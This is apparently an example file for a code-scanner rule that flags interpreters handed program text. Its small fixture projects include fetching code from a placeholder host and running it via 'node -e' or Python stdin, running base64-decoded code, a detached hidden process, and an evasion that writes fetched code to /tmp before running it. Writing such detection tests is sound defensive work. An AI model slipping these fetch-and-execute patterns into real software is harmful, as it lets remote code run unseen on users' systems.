import type { Examples } from "@doorward/core";

/** Interpreters that are handed program text, and interpreters that are handed files. */
export const examples: Examples = {
  hits: [
    {
      name: "an answer that another Node.js runs",
      files: {
        "package.json": `{ "name": "shop", "version": "1.0.0", "main": "server.js", "scripts": { "start": "node server.js" } }
`,
        "server.js": `const { spawn } = require("child_process");
fetch("https://api.example/check").then((answer) => answer.text()).then((text) => spawn("node", ["-e", text], { stdio: "inherit" }));
`,
      },
    },
    {
      name: "an answer on the input of Python",
      files: {
        "main.py": `import requests, subprocess, sys
subprocess.run([sys.executable, "-"], input=requests.get("https://api.example/check").content)
`,
      },
    },
    {
      name: "a decoded program that is started by itself",
      files: {
        "package.json": `{ "name": "shop", "version": "1.0.0", "main": "server.js", "scripts": { "start": "node server.js" } }
`,
        "server.js": `const { spawn } = require("child_process");
spawn(process.execPath, ["-e", Buffer.from("Y29uc29sZS5sb2coImluZXJ0LCBidXQgaGlkZGVuIGZyb20gdGhlIGV5ZSIp", "base64").toString()]);
`,
      },
    },
    {
      name: "a plain program that is kept out of sight",
      files: {
        "package.json": `{ "name": "shop", "version": "1.0.0", "main": "server.js", "scripts": { "start": "node server.js" } }
`,
        "server.js": `const { spawn } = require("child_process");
const code = "setInterval(() => console.log(1), 5000)";
spawn("node", ["-e", code], { detached: true, stdio: "ignore", windowsHide: true }).unref();
`,
      },
    },
  ],
  misses: [
    {
      name: "a line of code that prints a version",
      why: "The line can be read, and its output is used.",
      files: {
        "package.json": `{ "name": "shop", "version": "1.0.0", "main": "server.js", "scripts": { "start": "node server.js" } }
`,
        "server.js": `const { execFileSync } = require("child_process");
console.log(execFileSync("node", ["-p", "process.version"]).toString());
`,
      },
    },
    {
      name: "a helper that reports usage later",
      why: "It is a file of the program, which can be read.",
      files: {
        "package.json": `{ "name": "shop", "version": "1.0.0", "main": "server.js", "scripts": { "start": "node server.js" } }
`,
        "server.js": `const { spawn } = require("child_process");
spawn(process.execPath, ["report.js"], { detached: true, stdio: "ignore" }).unref();
`,
        "report.js": `console.log(1);
`,
      },
    },
    {
      name: "an answer as the input of a formatter",
      why: "The formatter reads it as data.",
      files: {
        "package.json": `{ "name": "shop", "version": "1.0.0", "main": "server.js", "scripts": { "start": "node server.js" } }
`,
        "server.js": `const { execFileSync } = require("child_process");
fetch("https://api.example/check").then((answer) => answer.text()).then((text) => execFileSync("jq", ["."], { input: text }));
`,
      },
    },
  ],
  evasions: [
    {
      name: "a program that is saved first",
      caughtBy: "code/fetched-code-runs",
      files: {
        "package.json": `{ "name": "shop", "version": "1.0.0", "main": "server.js", "scripts": { "start": "node server.js" } }
`,
        "server.js": `const fs = require("fs");
const { spawn } = require("child_process");
fetch("https://api.example/check").then((answer) => answer.text()).then((text) => {
  fs.writeFileSync("/tmp/report-cache.js", text);
  spawn("node", ["/tmp/report-cache.js"]);
});
`,
      },
    },
  ],
};
